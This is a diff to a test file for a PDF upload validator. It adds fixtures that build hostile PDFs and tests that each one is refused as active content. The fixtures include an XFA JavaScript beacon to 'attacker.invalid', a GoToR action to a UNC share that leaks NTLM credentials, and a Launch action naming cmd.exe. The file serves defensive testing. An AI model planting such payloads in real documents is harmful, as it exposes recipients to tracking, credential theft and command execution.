@@ -9,12 +9,14 @@ import subprocess
 
 import pytest
 from PIL import Image
-from pypdf import PdfWriter
+from pypdf import PdfReader, PdfWriter
 from pypdf.generic import (
     ArrayObject,
     DecodedStreamObject,
     DictionaryObject,
+    FloatObject,
     NameObject,
+    NumberObject,
     TextStringObject,
 )
 
@@ -89,6 +91,59 @@ def _pdf_with_page_additional_actions() -> bytes:
     open_action = _dict(S=_name("/URI"), URI=TextStringObject("https://example.invalid/"))
     writer.pages[0][_name("/AA")] = _dict(O=open_action)
     return _bytes(writer)
+
+
+XFA_TEMPLATE = b"""<?xml version="1.0" encoding="UTF-8"?>
+<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
+  <subform name="form1">
+    <event activity="initialize">
+      <script contentType="application/x-javascript">
+        xfa.host.gotoURL("https://attacker.invalid/?c=" + xfa.host.documentCountInBatch);
+      </script>
+    </event>
+  </subform>
+</template>"""
+
+
+def _pdf_with_compressed_xfa_script() -> bytes:
+    """An XFA form whose template packet (FlateDecode-compressed) holds a script."""
+    writer = _certificate_writer()
+    packet = DecodedStreamObject()
+    packet.set_data(XFA_TEMPLATE)
+    compressed = packet.flate_encode()
+    xfa = ArrayObject([TextStringObject("template"), writer._add_object(compressed)])
+    writer._root_object[_name("/AcroForm")] = _dict(Fields=ArrayObject(), XFA=xfa)
+    return _bytes(writer)
+
+
+def _pdf_with_link(action: DictionaryObject, subtype: str = "/Link") -> bytes:
+    """A clickable rectangle on page 1 whose /A is ``action``."""
+    writer = _certificate_writer()
+    rect = ArrayObject([FloatObject(72), FloatObject(72), FloatObject(200), FloatObject(100)])
+    annotation = _dict(Type=_name("/Annot"), Subtype=_name(subtype), Rect=rect, A=action)
+    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    return _bytes(writer)
+
+
+def _pdf_with_annotation(subtype: str, **extra) -> bytes:
+    writer = _certificate_writer()
+    rect = ArrayObject([FloatObject(72), FloatObject(72), FloatObject(200), FloatObject(100)])
+    annotation = _dict(Type=_name("/Annot"), Subtype=_name(subtype), Rect=rect, **extra)
+    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    return _bytes(writer)
+
+
+UNC_PATH = "\\\\server\\share\\certificate.pdf"
+
+
+def _pdf_with_gotor_to_unc_path() -> bytes:
+    destination = ArrayObject([NumberObject(0), _name("/Fit")])
+    action = _dict(S=_name("/GoToR"), F=TextStringObject(UNC_PATH), D=destination)
+    return _pdf_with_link(action)
+
+
+def _pdf_with_uri_open_action() -> bytes:
+    return _pdf_with_open_action("/URI", URI=TextStringObject("https://tracker.invalid/open"))
 
 
 def _encrypted_pdf() -> bytes:
@@ -337,6 +392,140 @@ def test_pdf_with_active_content_is_refused_and_named(builder, named):
     assert rejected.code == "active_content"
     assert named in rejected.message
     assert "print it to a new PDF" in rejected.message
+
+
+def test_compressed_xfa_script_is_refused():
+    # given an XFA form whose script sits in a FlateDecode-compressed packet
+    data = _pdf_with_compressed_xfa_script()
+    assert b"<script" not in data and b"javascript" not in data.lower()
+
+    # when it is uploaded, then it is refused, and the message says why
+    rejected = _reject(data, "certificate.pdf")
+
+    assert rejected.code == "active_content"
+    assert "XFA form with a script" in rejected.message
+    assert "print it to a new PDF" in rejected.message
+
+
+def test_gotor_to_a_unc_path_is_refused():
+    # A remote go-to on a Windows share leaks the viewer's NTLM credentials when followed.
+    data = _pdf_with_gotor_to_unc_path()
+    action = PdfReader(io.BytesIO(data)).pages[0]["/Annots"][0].get_object()["/A"]
+    assert (action["/S"], action["/F"]) == ("/GoToR", "\\\\server\\share\\certificate.pdf")
+
+    rejected = _reject(data, "certificate.pdf")
+
+    assert rejected.code == "active_content"
+    assert "opens another file" in rejected.message
+
+
+def test_uri_open_action_is_refused():
+    rejected = _reject(_pdf_with_uri_open_action(), "certificate.pdf")
+
+    assert rejected.code == "active_content"
+    assert "link to a web address" in rejected.message
+
+
+@pytest.mark.parametrize(
+    ("builder", "named"),
+    [
+        (
+            lambda: _pdf_with_link(
+                _dict(S=_name("/URI"), URI=TextStringObject("https://x.invalid"))
+            ),
+            "link to a web address",
+        ),
+        (
+            lambda: _pdf_with_link(_dict(S=_name("/Launch"), F=TextStringObject("cmd.exe"))),
+            "launch action",
+        ),
+        (
+            lambda: _pdf_with_link(
+                _dict(S=_name("/SubmitForm"), F=TextStringObject("https://x.invalid/post")),
+                subtype="/Widget",
+            ),
+            "form-submission action",
+        ),
+        (
+            lambda: _pdf_with_open_action("/ImportData", F=TextStringObject("data.fdf")),
+            "data-import action",
+        ),
+        (
+            lambda: _pdf_with_open_action("/GoToE", NewWindow=_name("/true")),
+            "opens an embedded file",
+        ),
+        (lambda: _pdf_with_open_action("/Sound"), "a sound"),
+        (lambda: _pdf_with_open_action("/Movie"), "a movie"),
+        (lambda: _pdf_with_open_action("/Rendition"), "embedded media"),
+        (
+            lambda: _pdf_with_link(
+                _dict(
+                    S=_name("/GoTo"),
+                    D=ArrayObject([NumberObject(0), _name("/Fit")]),
+                    Next=_dict(S=_name("/URI"), URI=TextStringObject("https://x.invalid")),
+                )
+            ),
+            "link to a web address",
+        ),
+        (lambda: _pdf_with_annotation("/FileAttachment"), "attached file"),
+        (lambda: _pdf_with_annotation("/Sound"), "a sound"),
+        (lambda: _pdf_with_annotation("/Movie"), "a movie"),
+        (lambda: _pdf_with_annotation("/Screen"), "embedded media"),
+        (lambda: _pdf_with_annotation("/RichMedia"), "rich media"),
+        (lambda: _pdf_with_annotation("/3D"), "3D content"),
+    ],
+    ids=[
+        "link-uri",
+        "link-launch",
+        "widget-submitform",
+        "importdata",
+        "gotoe",
+        "sound-action",
+        "movie-action",
+        "rendition-action",
+        "next-chain-uri",
+        "fileattachment-annot",
+        "sound-annot",
+        "movie-annot",
+        "screen-annot",
+        "richmedia-annot",
+        "3d-annot",
+    ],
+)
+def test_every_action_and_annotation_that_can_run_or_fetch_is_refused(builder, named):
+    rejected = _reject(builder(), "certificate.pdf")
+
+    assert rejected.code == "active_content"
+    assert named in rejected.message
+
+
+def test_xfa_form_without_a_script_is_still_refused():
+    writer = _certificate_writer()
+    packet = DecodedStreamObject()
+    packet.set_data(b"<template><subform name='f'/></template>")
+    xfa = ArrayObject([TextStringObject("template"), writer._add_object(packet.flate_encode())])
+    writer._root_object[_name("/AcroForm")] = _dict(Fields=ArrayObject(), XFA=xfa)
+
+    rejected = _reject(_bytes(writer), "certificate.pdf")
+
+    assert rejected.code == "active_content"
+    assert "XFA form" in rejected.message
+
+
+def test_internal_link_to_a_page_is_accepted():
+    # Guards the refusals above: a link within the document fetches and runs nothing.
+    writer = _certificate_writer()
+    destination = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
+    rect = ArrayObject([FloatObject(72), FloatObject(72), FloatObject(200), FloatObject(100)])
+    link = _dict(
+        Type=_name("/Annot"),
+        Subtype=_name("/Link"),
+        Rect=rect,
+        A=_dict(S=_name("/GoTo"), D=destination),
+    )
+    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])
+
+    assert inspect_upload(_bytes(writer), "c.pdf").pages == 1
 
 
 def test_obfuscated_javascript_name_is_still_found():
